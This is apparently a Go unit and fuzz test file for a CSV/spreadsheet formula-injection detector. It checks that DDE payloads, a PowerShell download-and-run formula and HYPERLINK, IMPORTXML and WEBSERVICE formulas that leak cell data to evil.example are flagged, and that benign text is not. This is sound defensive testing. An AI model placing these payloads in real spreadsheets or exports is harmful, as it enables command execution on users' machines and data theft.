package detect

import "testing"

func TestFormula(t *testing.T) {
	tests := []struct {
		name, value string
		want        bool
	}{
		// attacks
		{"dde calc", `=cmd|' /C calc'!A0`, true},
		{"dde with sum prefix", `@SUM(1+1)*cmd|' /C calc'!A0`, true},
		{"dde plus prefix powershell", `+cmd|'/c powershell IEX(wget evil.example/x)'!A1`, true},
		{"dde msexcel", `=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''`, true},
		{"dde double quotes", `-cmd|"/c notepad"!A1`, true},
		{"dde function", `=DDE("cmd";"/C calc";"!A0")A0`, true},
		{"ddeauto", `=DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`, true},
		{"hyperlink exfiltration", `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, true},
		{"importxml exfiltration", `=IMPORTXML(CONCAT("http://evil.example/?", A1:B2), "//a")`, true},
		{"webservice concat", `=WEBSERVICE("http://evil.example/?d="&CONCATENATE(A1,B1))`, true},
		{"csv upload cell", "name,email\n=cmd|' /C calc'!A0,a@b.example\n", true},
		{"quoted csv cell", `"bob","=cmd|' /C calc'!A0"`, true},
		// benign
		{"sum", `=SUM(A1:A3)`, false},
		{"arithmetic", `=A1*2+B2`, false},
		{"plain hyperlink", `=HYPERLINK("https://example.com","site")`, false},
		{"negative number", `-42`, false},
		{"mention", `@alice can you check`, false},
		{"pipe and quotes in prose", `use a|'b' then !done`, false},
		{"shell pipe", `cat a.txt | grep 'x' !`, false},
		{"csv without formulas", "name,email\nbob,b@x.example\n", false},
		{"markdown table", "| id | name |\n|----|------|\n| 1 | 'x' |", false},
		{"hidden word", `=hidden+1`, false},
		{"email", `=?utf-8?q?x?=`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			frag, got := matchFormula(tt.value)
			if got != tt.want {
				t.Errorf("matchFormula(%q) = %v (%q), want %v", tt.value, got, frag, tt.want)
			}
		})
	}
}

// formulaAttacks are formulas FuzzFormula places as a cell among arbitrary CSV text.
var formulaAttacks = []string{
	`=cmd|' /C calc'!A0`, `+cmd|'/c powershell IEX(wget evil.example/x)'!A1`, `@SUM(1)*cmd|' /C calc'!A0`,
	`=DDE("cmd";"/C calc";"!A0")A0`, `=HYPERLINK("http://evil.example/?x="&B2,"open")`,
}

// FuzzFormula checks the promises of formula.go: a dangerous formula at the start of a
// cell is found whatever CSV rows of benign text come before and after it, and its
// fragment is part of the value; text with no formula prefix at a cell start never
// matches, whatever pipes, quotes and '!' it holds.
func FuzzFormula(f *testing.F) {
	f.Add("name,email", "bob,b@x.example", uint8(0))
	f.Add("a|'b'!c", "", uint8(3))
	f.Fuzz(func(t *testing.T, before, after string, attack uint8) {
		const alphabet = "abc XYZ 019|'!\"(),;:&$"
		v := benignText(before, alphabet, 80) + "\n" + pick(formulaAttacks, attack) + "," + benignText(after, alphabet, 80)
		frag, ok := matchFormula(v)
		if !ok {
			t.Fatalf("formula missed in %q", v)
		}
		checkFragment(t, CMDEXE, v, frag)

		plain := "x" + benignText(before+after, alphabet, 160) // '=', '+', '-', '@' are not in the alphabet
		if frag, ok := matchFormula(plain); ok {
			t.Fatalf("formula matched %q (fragment %q) without a formula", plain, frag)
		}
	})
}
